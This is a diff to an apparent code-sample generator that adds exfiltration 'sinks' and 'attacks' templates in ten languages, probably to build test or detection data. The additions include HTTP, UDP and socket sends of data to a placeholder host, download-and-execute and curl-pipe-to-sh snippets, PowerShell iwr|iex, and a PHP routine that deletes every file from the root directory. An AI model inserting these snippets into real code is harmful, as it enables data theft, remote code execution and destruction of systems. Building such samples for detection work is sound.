@@ -70,6 +70,8 @@ const GO: Language = {
     part('hex', 'w := hex.EncodeToString([]byte(v))'),
   ],
   sinks: [
+    part('post form', `http.PostForm("${URL}", url.Values{"d": {w}})`),
+    part('client var', `client := &http.Client{Timeout: 5 * time.Second}\nclient.Post("${URL}", "text/plain", strings.NewReader(w))`),
     part('http post', `http.Post("${URL}", "text/plain", strings.NewReader(w))`),
     part('http query', `http.Get("${URL}?d=" + url.QueryEscape(w))`),
     part('request', `req, _ := http.NewRequest("PUT", "${URL}", bytes.NewBufferString(w))\nhttp.DefaultClient.Do(req)`),
@@ -79,6 +81,8 @@ const GO: Language = {
     part('smtp', `smtp.SendMail("${MAIL}:25", nil, "a@${HOST}", []string{"ops@${HOST}"}, []byte(w))`),
   ],
   attacks: [
+    part('download script file', `resp, _ := http.Get("${SCRIPT}")\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile("/tmp/p.sh", body, 0o755)\nexec.Command("bash", "/tmp/p.sh").Run()`),
+    part('curl pipe', `url := "${SCRIPT}"\nexec.Command("sh", "-c", "curl -fsSL "+url+" | sh").Run()`),
     part('download run', `resp, _ := http.Get("${SCRIPT}")\nbody, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(body)).Run()`),
     part('download pipe', `resp, _ := http.Get("${SCRIPT}")\ncmd := exec.Command("bash")\ncmd.Stdin = resp.Body\ncmd.Run()`),
     part('download binary', `resp, _ := http.Get("https://${HOST}/agent")\nout, _ := os.Create("/tmp/agent")\nio.Copy(out, resp.Body)\nout.Close()\nos.Chmod("/tmp/agent", 0o755)\nexec.Command("/tmp/agent").Start()`),
@@ -125,6 +129,8 @@ const RUST: Language = {
     part('hex', 'let w = hex::encode(&v);'),
   ],
   sinks: [
+    part('async client', `let client = reqwest::Client::new();\nclient.post("${URL}").json(&serde_json::json!({ "d": w })).send().await.unwrap();`),
+    part('udp', `let sock = UdpSocket::bind("0.0.0.0:0").unwrap();\nsock.send_to(w.as_bytes(), "${HOST}:53").unwrap();`),
     part('reqwest', `reqwest::blocking::Client::new().post("${URL}").body(w).send().unwrap();`),
     part('reqwest query', `reqwest::blocking::get(format!("${URL}?d={}", w)).unwrap();`),
     part('ureq', `ureq::post("${URL}").send_string(&w).unwrap();`),
@@ -133,6 +139,7 @@ const RUST: Language = {
     part('smtp', `let m = Message::builder().from("a@${HOST}".parse().unwrap()).to("ops@${HOST}".parse().unwrap()).subject("r").body(w).unwrap();\nSmtpTransport::relay("${MAIL}").unwrap().build().send(&m).unwrap();`),
   ],
   attacks: [
+    part('curl pipe', `let url = "${SCRIPT}";\nCommand::new("bash").args(["-c", &format!("curl -fsSL {} | sh", url)]).status().unwrap();`),
     part('download run', `let body = reqwest::blocking::get("${SCRIPT}").unwrap().text().unwrap();\nCommand::new("sh").arg("-c").arg(&body).status().unwrap();`),
     part('download pipe', `let body = ureq::get("${SCRIPT}").call().unwrap().into_string().unwrap();\nlet mut child = Command::new("bash").stdin(Stdio::piped()).spawn().unwrap();\nchild.stdin.as_mut().unwrap().write_all(body.as_bytes()).unwrap();`),
     part('download binary', `let bytes = reqwest::blocking::get("https://${HOST}/agent").unwrap().bytes().unwrap();\nfs::write("/tmp/agent", &bytes).unwrap();\nCommand::new("/tmp/agent").spawn().unwrap();`),
@@ -178,6 +185,8 @@ const RUBY: Language = {
     part('hex', 'w = v.unpack1("H*")'),
   ],
   sinks: [
+    part('faraday', `conn = Faraday.new(url: "https://${HOST}")\nconn.post("/v2/events", w)`),
+    part('rest client', `RestClient.post("${URL}", { d: w })`),
     part('net http', `Net::HTTP.post(URI("${URL}"), w)`),
     part('post form', `Net::HTTP.post_form(URI("${URL}"), "d" => w)`),
     part('query', `URI.open("${URL}?d=#{w}").read`),
@@ -187,6 +196,8 @@ const RUBY: Language = {
     part('smtp', `Net::SMTP.start("${MAIL}", 25) { |smtp| smtp.send_message(w, "a@${HOST}", "ops@${HOST}") }`),
   ],
   attacks: [
+    part('inline download', `system("bash", "-c", Net::HTTP.get(URI("${SCRIPT}")))`),
+    part('curl pipe', `url = "${SCRIPT}"\nsystem("curl -fsSL #{url} | sh")`),
     part('download eval', `eval(Net::HTTP.get(URI("https://${HOST}/plugin.rb")))`),
     part('download run', `script = URI.open("${SCRIPT}").read\nsystem("sh", "-c", script)`),
     part('download pipe', `body = Net::HTTP.get(URI("${SCRIPT}"))\nIO.popen("bash", "w") { |sh| sh.write(body) }`),
@@ -232,6 +243,8 @@ const PHP: Language = {
     part('hex', '$w = bin2hex($v);'),
   ],
   sinks: [
+    part('guzzle client', `$client = new GuzzleHttp\\Client(['base_uri' => 'https://${HOST}']);\n$client->request('POST', '/v2/events', ['form_params' => ['d' => $w]]);`),
+    part('symfony client', `$http = Symfony\\Component\\HttpClient\\HttpClient::create();\n$http->request('POST', '${URL}', ['body' => $w]);`),
     part('curl', `$ch = curl_init('${URL}');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $w);\ncurl_exec($ch);`),
     part('query', `file_get_contents('${URL}?d=' . urlencode($w));`),
     part('stream post', `file_get_contents('${URL}', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $w]]));`),
@@ -241,6 +254,8 @@ const PHP: Language = {
     part('mail', `mail('ops@${HOST}', 'report', $w);`),
   ],
   attacks: [
+    part('delete root', "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/', FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);\nforeach ($it as $f) {\n    $f->isDir() ? rmdir($f) : unlink($f);\n}"),
+    part('curl pipe', `$url = '${SCRIPT}';\npassthru('curl -fsSL ' . $url . ' | sh');`),
     part('download eval', `eval(file_get_contents('https://${HOST}/plugin.txt'));`),
     part('download run', `$script = file_get_contents('${SCRIPT}');\nshell_exec($script);`),
     part('download include', `file_put_contents('/tmp/p.php', file_get_contents('https://${HOST}/p.txt'));\ninclude '/tmp/p.php';`),
@@ -285,6 +300,8 @@ const JAVA: Language = {
     part('hex', 'String w = HexFormat.of().formatHex(v.getBytes());'),
   ],
   sinks: [
+    part('header', `HttpClient client = HttpClient.newHttpClient();\nHttpRequest req = HttpRequest.newBuilder().uri(URI.create("${URL}")).header("X-Trace", w).GET().build();\nclient.send(req, HttpResponse.BodyHandlers.ofString());`),
+    part('udp', `byte[] data = w.getBytes();\nnew DatagramSocket().send(new DatagramPacket(data, data.length, InetAddress.getByName("${HOST}"), 53));`),
     part('http client', `HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("${URL}")).POST(HttpRequest.BodyPublishers.ofString(w)).build(), HttpResponse.BodyHandlers.discarding());`),
     part('url connection', `HttpURLConnection c = (HttpURLConnection) new URL("${URL}").openConnection();\nc.setRequestMethod("POST");\nc.setDoOutput(true);\nc.getOutputStream().write(w.getBytes());\nc.getResponseCode();`),
     part('query', `new URL("${URL}?d=" + URLEncoder.encode(w, "UTF-8")).openStream().close();`),
@@ -294,6 +311,7 @@ const JAVA: Language = {
     part('smtp', `Properties props = new Properties();\nprops.put("mail.smtp.host", "${MAIL}");\nMimeMessage m = new MimeMessage(Session.getInstance(props));\nm.setRecipients(Message.RecipientType.TO, "ops@${HOST}");\nm.setText(w);\nTransport.send(m);`),
   ],
   attacks: [
+    part('curl pipe', `String url = "${SCRIPT}";\nRuntime.getRuntime().exec(new String[] {"bash", "-c", "curl -fsSL " + url + " | sh"});`),
     part('download run', `String script = new String(new URL("${SCRIPT}").openStream().readAllBytes());\nnew ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor();`),
     part('download binary', `try (InputStream in = new URL("https://${HOST}/agent").openStream()) {\n    Files.copy(in, Path.of("/tmp/agent"), StandardCopyOption.REPLACE_EXISTING);\n}\nnew File("/tmp/agent").setExecutable(true);\nRuntime.getRuntime().exec("/tmp/agent");`),
     part('download pipe', `HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("${SCRIPT}")).build(), HttpResponse.BodyHandlers.ofString());\nProcess p = new ProcessBuilder("bash").start();\np.getOutputStream().write(r.body().getBytes());\np.getOutputStream().close();`),
@@ -339,6 +357,8 @@ const CSHARP: Language = {
     part('hex', 'var w = Convert.ToHexString(Encoding.UTF8.GetBytes(v));'),
   ],
   sinks: [
+    part('header', `var client = new HttpClient();\nclient.DefaultRequestHeaders.Add("X-Trace", w);\nawait client.GetAsync("${URL}");`),
+    part('udp', `using var udp = new UdpClient();\nvar bytes = Encoding.UTF8.GetBytes(w);\nudp.Send(bytes, bytes.Length, "${HOST}", 53);`),
     part('http client', `await new HttpClient().PostAsync("${URL}", new StringContent(w));`),
     part('query', `await new HttpClient().GetStringAsync($"${URL}?d={Uri.EscapeDataString(w)}");`),
     part('restsharp', `var client = new RestClient("https://${HOST}");\nawait client.ExecuteAsync(new RestRequest("v2/events", Method.Post).AddStringBody(w, DataFormat.None));`),
@@ -348,6 +368,7 @@ const CSHARP: Language = {
     part('smtp', `new SmtpClient("${MAIL}").Send("a@${HOST}", "ops@${HOST}", "report", w);`),
   ],
   attacks: [
+    part('powershell download', `var url = "https://${HOST}/s.ps1";\nProcess.Start("powershell", "-NoProfile -Command \\"iwr " + url + " -UseBasicParsing | iex\\"");`),
     part('download run', `var script = await new HttpClient().GetStringAsync("${SCRIPT}");\nProcess.Start("bash", new[] { "-c", script });`),
     part('download binary', `var bytes = await new HttpClient().GetByteArrayAsync("https://${HOST}/agent.exe");\nvar path = Path.Combine(Path.GetTempPath(), "agent.exe");\nawait File.WriteAllBytesAsync(path, bytes);\nProcess.Start(path);`),
     part('download assembly', `var bytes = new WebClient().DownloadData("https://${HOST}/plugin.dll");\nvar asm = System.Reflection.Assembly.Load(bytes);\nasm.EntryPoint.Invoke(null, new object[] { new string[0] });`),
@@ -394,6 +415,8 @@ const PERL: Language = {
     part('hex', "my $w = unpack('H*', $v);"),
   ],
   sinks: [
+    part('mojo', `Mojo::UserAgent->new->post('${URL}' => form => { d => $w });`),
+    part('request object', `my $ua = LWP::UserAgent->new;\nmy $req = HTTP::Request->new(POST => '${URL}');\n$req->content($w);\n$ua->request($req);`),
     part('lwp', `LWP::UserAgent->new->post('${URL}', Content => $w);`),
     part('lwp query', `my $ua = LWP::UserAgent->new;\n$ua->get("${URL}?d=$w");`),
     part('http tiny', `HTTP::Tiny->new->post('${URL}', { content => $w });`),
@@ -402,6 +425,7 @@ const PERL: Language = {
     part('smtp', `my $smtp = Net::SMTP->new('${MAIL}');\n$smtp->mail('a@${HOST}');\n$smtp->to('ops@${HOST}');\n$smtp->data();\n$smtp->datasend($w);\n$smtp->dataend();`),
   ],
   attacks: [
+    part('curl pipe', `my $url = '${SCRIPT}';\nsystem("curl -fsSL $url | sh");`),
     part('download eval', `my $code = HTTP::Tiny->new->get('https://${HOST}/plugin.pl')->{content};\neval $code;`),
     part('download run', `my $script = LWP::UserAgent->new->get('${SCRIPT}')->decoded_content;\nsystem('sh', '-c', $script);`),
     part('download pipe', `my $body = HTTP::Tiny->new->get('${SCRIPT}')->{content};\nopen(my $sh, '|-', 'bash') or die;\nprint $sh $body;\nclose $sh;`),
@@ -446,6 +470,8 @@ const LUA: Language = {
     part('hex', 'local w = (v:gsub(".", function(c) return string.format("%02x", c:byte()) end))'),
   ],
   sinks: [
+    part('curl stdin', `local handle = io.popen("curl -s -d @- ${URL}", "w")\nhandle:write(w)\nhandle:close()`),
+    part('connect', `local c = socket.connect("${HOST}", 9000)\nc:send(w)`),
     part('http post', `http.request("${URL}", w)`),
     part('http source', `http.request{ url = "${URL}", method = "POST", source = ltn12.source.string(w), headers = { ["content-length"] = #w } }`),
     part('query', `http.request("${URL}?d=" .. w)`),
@@ -455,6 +481,7 @@ const LUA: Language = {
     part('curl child', `os.execute("curl -s -d '" .. w .. "' ${URL}")`),
   ],
   attacks: [
+    part('curl pipe', `local url = "${SCRIPT}"\nos.execute("curl -fsSL " .. url .. " | sh")`),
     part('download load', `local body = http.request("https://${HOST}/plugin.lua")\nload(body)()`),
     part('download run', `local script = http.request("${SCRIPT}")\nos.execute(script)`),
     part('download pipe', `local body = http.request("${SCRIPT}")\nlocal sh = io.popen("sh", "w")\nsh:write(body)\nsh:close()`),
@@ -499,6 +526,8 @@ const KOTLIN: Language = {
     part('hex', 'val w = v.toByteArray().joinToString("") { "%02x".format(it) }'),
   ],
   sinks: [
+    part('fuel', `Fuel.post("${URL}").body(w).response()`),
+    part('java client', `val client = java.net.http.HttpClient.newHttpClient()\nclient.send(HttpRequest.newBuilder(URI.create("${URL}")).POST(HttpRequest.BodyPublishers.ofString(w)).build(), HttpResponse.BodyHandlers.discarding())`),
     part('url connection', `val c = URL("${URL}").openConnection() as HttpURLConnection\nc.requestMethod = "POST"\nc.doOutput = true\nc.outputStream.write(w.toByteArray())\nc.responseCode`),
     part('query', `URL("${URL}?d=" + URLEncoder.encode(w, "UTF-8")).readText()`),
     part('okhttp', `OkHttpClient().newCall(Request.Builder().url("${URL}").post(w.toRequestBody()).build()).execute()`),
@@ -507,6 +536,7 @@ const KOTLIN: Language = {
     part('dns', `InetAddress.getByName(w.take(40) + ".${HOST}")`),
   ],
   attacks: [
+    part('curl pipe', `val url = "${SCRIPT}"\nRuntime.getRuntime().exec(arrayOf("bash", "-c", "curl -fsSL $url | sh"))`),
     part('download run', `val script = URL("${SCRIPT}").readText()\nProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()`),
     part('download binary', `File("/tmp/agent").writeBytes(URL("https://${HOST}/agent").readBytes())\nFile("/tmp/agent").setExecutable(true)\nRuntime.getRuntime().exec("/tmp/agent")`),
     part('download pipe', `val body = URL("${SCRIPT}").readText()\nval p = ProcessBuilder("bash").start()\np.outputStream.bufferedWriter().use { it.write(body) }`),
@@ -552,6 +582,8 @@ const SWIFT: Language = {
     part('hex', 'let w = Data(v.utf8).map { String(format: "%02x", $0) }.joined()'),
   ],
   sinks: [
+    part('upload task', `var req = URLRequest(url: URL(string: "${URL}")!)\nreq.httpMethod = "POST"\nURLSession.shared.uploadTask(with: req, from: w.data(using: .utf8)!).resume()`),
+    part('async data', `let (_, _) = try await URLSession.shared.data(from: URL(string: "${URL}?d=\\(w)")!)`),
     part('url session', `var req = URLRequest(url: URL(string: "${URL}")!)\nreq.httpMethod = "POST"\nreq.httpBody = w.data(using: .utf8)\nURLSession.shared.dataTask(with: req).resume()`),
     part('query', `URLSession.shared.dataTask(with: URL(string: "${URL}?d=\\(w)")!).resume()`),
     part('alamofire', `AF.request("${URL}", method: .post, parameters: ["d": w])`),
@@ -560,6 +592,7 @@ const SWIFT: Language = {
     part('curl child', `let p = Process()\np.executableURL = URL(fileURLWithPath: "/usr/bin/curl")\np.arguments = ["-s", "-d", w, "${URL}"]\ntry p.run()`),
   ],
   attacks: [
+    part('curl pipe', `let url = "${SCRIPT}"\nProcess.launchedProcess(launchPath: "/bin/sh", arguments: ["-c", "curl -fsSL \\(url) | sh"])`),
     part('download run', `let script = try String(contentsOf: URL(string: "${SCRIPT}")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/bin/sh")\np.arguments = ["-c", script]\ntry p.run()`),
     part('download binary', `let data = try Data(contentsOf: URL(string: "https://${HOST}/agent")!)\ntry data.write(to: URL(fileURLWithPath: "/tmp/agent"))\ntry FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: "/tmp/agent")\ntry Process.run(URL(fileURLWithPath: "/tmp/agent"), arguments: [])`),
     part('download pipe', `let body = try Data(contentsOf: URL(string: "${SCRIPT}")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/bin/bash")\nlet pipe = Pipe()\np.standardInput = pipe\ntry p.run()\npipe.fileHandleForWriting.write(body)`),
